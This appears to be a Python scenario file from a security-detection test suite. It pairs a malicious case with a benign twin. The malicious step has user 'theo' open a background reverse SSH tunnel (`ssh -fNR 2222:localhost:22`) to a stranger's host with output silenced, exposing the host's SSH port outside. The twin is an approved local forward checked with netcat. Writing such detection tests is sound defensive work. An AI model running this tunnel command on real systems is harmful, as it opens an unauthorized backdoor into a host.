"""A way in from outside: a remote forward held open by ssh in the background."""

from __future__ import annotations

from ..scenario import STRANGER, Person, Scenario, Step, Truth
from ..twins import Draw


def _twin(draw: Draw) -> tuple[Step, ...]:
    port, host = draw.number(2345, 2000, 9000), draw.one_of("db", "bastion", "app")
    forward = f"{port}:{host}:22"
    look = f"busybox nc -w 1 127.0.0.1 {port} < /dev/null"
    return (Step("tina", f"ssh -fN -L 127.0.0.1:{forward} tina@app; {look}; pkill -u tina -f {forward}"),)


SCENARIO = Scenario(
    number=9,
    title="ssh -R: a port of a host offered outside",
    people=(Person("theo", ("app",)), Person("tina", ("app",))),
    steps=(
        Step(
            "theo",
            f"ssh theo@app 'ssh -fNR 2222:localhost:22 drop@{STRANGER} < /dev/null > /dev/null 2>&1; "
            "sleep 2; pkill -x ssh'",
        ),
    ),
    twin_title="somebody reaches a host of the own fleet through an approved forward",
    twin=_twin,
    truth=Truth("theo", ("app",), ("ssh-forward",)),
)
